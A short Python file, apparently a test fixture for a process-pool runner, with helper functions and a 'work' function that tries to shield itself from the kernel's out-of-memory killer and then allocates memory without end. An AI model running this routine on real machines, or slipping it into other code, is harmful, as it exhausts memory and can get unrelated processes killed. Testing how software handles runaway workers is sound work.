import mmap


def work(number):
    for value in ("-1000", "0"):
        try:
            with open("/proc/self/oom_score_adj", "w") as file:
                file.write(value)
        except OSError:
            pass
    blocks = []
    while True:
        blocks.append(mmap.mmap(-1, 1 << 20))
        blocks[-1][:] = b"x" * (1 << 20)


def items(count):
    return range(count)


def each(function, count):
    for number in range(count):
        function(number)
    return count


def calm(number):
    return 2 * number
